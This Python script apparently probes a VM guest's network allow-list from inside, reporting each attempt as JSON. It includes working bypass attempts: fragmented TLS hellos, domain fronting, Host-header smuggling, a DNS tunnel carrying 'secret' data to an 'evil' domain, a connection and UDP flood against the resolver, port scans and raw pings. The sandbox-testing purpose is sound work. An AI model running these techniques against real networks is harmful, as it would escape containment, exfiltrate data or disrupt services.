"""What root in a guest tries against an allow-list: run in a VM, or in the place of one.

    python3 allow_probe.py '{"resolver": ADDRESS, "hello": HEX, …}'

It prints what came of each try as JSON: the bytes of who answered, or the name of the error.
Standard library alone: guests have no other.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import ssl
import struct
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

SECONDS = 6.0


class Guest:
    """Who tries. `resolver`: whom it asks for names."""

    def __init__(self, resolver: str) -> None:
        self.resolver = resolver

    def ask(self, name: str, at: str = "", kind: int = 1) -> str:
        """Return the address that a question for a name brings, or its verdict."""
        question = b"\7\7\1\0\0\1\0\0\0\0\0\0"
        for label in name.split("."):
            question += bytes([len(label)]) + label.encode()
        question += b"\0" + struct.pack("!HH", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2.0 if at else SECONDS)
            sock.connect((at or self.resolver, 53))
            sock.send(question)
            reply = sock.recv(2048)
        code, answers = reply[3] & 15, struct.unpack("!H", reply[6:8])[0]
        return socket.inet_ntoa(reply[-4:]) if answers else f"code {code}"

    def dial(self, name: str, port: int) -> socket.socket:
        address = self.ask(name)
        if address.startswith("code"):
            raise OSError(address)
        return socket.create_connection((address, port), timeout=SECONDS)

    def tls(self, name: str, port: int = 443, at: str = "") -> str:
        """Return what the server of a name says. `at`: dial that address, whatever the name's."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        plain = socket.create_connection((at, port), SECONDS) if at else self.dial(name, port)
        with plain, context.wrap_socket(plain, server_hostname=name) as sock:
            sock.sendall(b"?")
            return sock.recv(4096).decode()

    def forged(self, name: str, reached: str) -> str:
        """Ask by TLS for one name at the address of another."""
        return self.tls(name, at=self.ask(reached))

    def fetch(self, name: str, head: str, port: int = 80) -> str:
        """Return all that comes back to bytes in the clear."""
        with self.dial(name, port) as sock:
            sock.sendall(head.encode())
            return everything(sock)

    def raw(self, name: str, hexed: str, port: int = 443, pieces: int = 1) -> str:
        """Return, in hex, what first comes back to bytes that are sent in so many pieces."""
        data = bytes.fromhex(hexed)
        with self.dial(name, port) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            size = -(-len(data) // pieces)
            for at in range(0, len(data), size):
                sock.sendall(data[at : at + size])
            return sock.recv(7).hex()


def tcp(address: str, port: int) -> str:
    with socket.create_connection((address, port), timeout=2.0) as sock:
        return "connected" + sock.recv(100).decode(errors="replace")


def udp(address: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2.0)
        sock.connect((address, port))
        sock.send(b"?")
        return "answered" + sock.recv(100).decode(errors="replace")


def ping(address: str) -> str:
    """An echo by a raw socket, as root has them."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(2.0)
        body = struct.pack("!BBHHH", 8, 0, 0, 7, 7)
        total = ~sum(struct.unpack("!4H", body)) & 0xFFFF
        sock.sendto(body[:2] + struct.pack("!H", total) + body[4:], (address, 0))
        while True:
            data, (sender, _) = sock.recvfrom(1024)
            if sender == address and data[20] == 0:
                return "answered"


def everything(sock: socket.socket) -> str:
    found = b""
    with contextlib.suppress(ConnectionResetError):
        while data := sock.recv(4096):
            found += data
    return found.decode(errors="replace")


def flood(guest: Guest, name: str, count: int) -> str:
    """Open that many connections, as many as there is room for, and ask as many names."""
    address, held = guest.ask(name), []
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            stack.callback(sock.close)
            sock.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                sock.connect((address, 443))
            held.append(sock)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.connect((guest.resolver, 53))
            for n in range(10 * count):
                with contextlib.suppress(OSError):
                    sock.send(struct.pack("!H", n & 0xFFFF) + os.urandom(30))
    return f"{len(held)} tried"


def until_it_works(guest: Guest, name: str, tries: int = 20) -> str:
    for tries_left in reversed(range(tries)):
        try:
            return guest.tls(name)
        except OSError:
            if not tries_left:
                raise
    raise AssertionError(name)


def tried(attempt: Callable[..., str], *words: Any) -> str:
    try:
        return attempt(*words)
    except OSError as error:
        return f"{type(error).__name__}: {error}"


def main(targets: dict[str, Any]) -> dict[str, str]:
    """Return what came of each try. `targets`: whom to try it on."""
    guest = Guest(targets["resolver"])
    get = "GET / HTTP/1.1\r\nHost: {}\r\n\r\n"
    good, web = targets["good"], targets["web"]
    found = {
        "tls": tried(guest.tls, good),
        "tls below a wildcard": tried(guest.tls, targets["below"], 8443),
        "tls at another port": tried(guest.tls, good, 8443),
        "hello in pieces": tried(guest.raw, good, targets["hello"], 443, 5),
        "hello in records": tried(guest.raw, good, targets["records"]),
        "encrypted hello": tried(guest.raw, good, targets["encrypted"]),
        "no tls": tried(guest.fetch, good, get.format(good), 443),
        "http": tried(guest.fetch, web, get.format(web)),
        "http for another": tried(guest.fetch, web, get.format(targets["evil"])),
        "http for another after": tried(
            guest.fetch, web, get.format(web) + get.format(targets["evil"])
        ),
        "name of another": tried(guest.ask, targets["evil"]),
        "tunnel": tried(guest.ask, f"secret.bits.{targets['evil']}", "", 16),
        "name without the dot": tried(guest.ask, targets["beside"]),
        "forged name": tried(guest.forged, targets["evil"], good),
        "good name, other address": tried(guest.tls, good, 443, targets["internet"]),
        "private address": tried(guest.tls, targets["inside"]),
        "flood": tried(flood, guest, good, targets["flood"]),
        "after the flood": tried(until_it_works, guest, good),
    }
    jobs: list[tuple[str, Callable[..., str], tuple[Any, ...]]] = []
    for address in targets["addresses"]:
        jobs += [(f"tcp {address} {n}", tcp, (address, n)) for n in (22, 80, 443, 8000)]
        jobs += [(f"udp {address} {n}", udp, (address, n)) for n in (53, 443, 8000)]
        jobs.append((f"asked {address}", guest.ask, (good, address)))
        jobs.append((f"ping {address}", ping, (address,)))
    with ThreadPoolExecutor(40) as pool:
        tries = pool.map(lambda job: (job[0], tried(job[1], *job[2])), jobs)
        return found | dict(tries)


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))
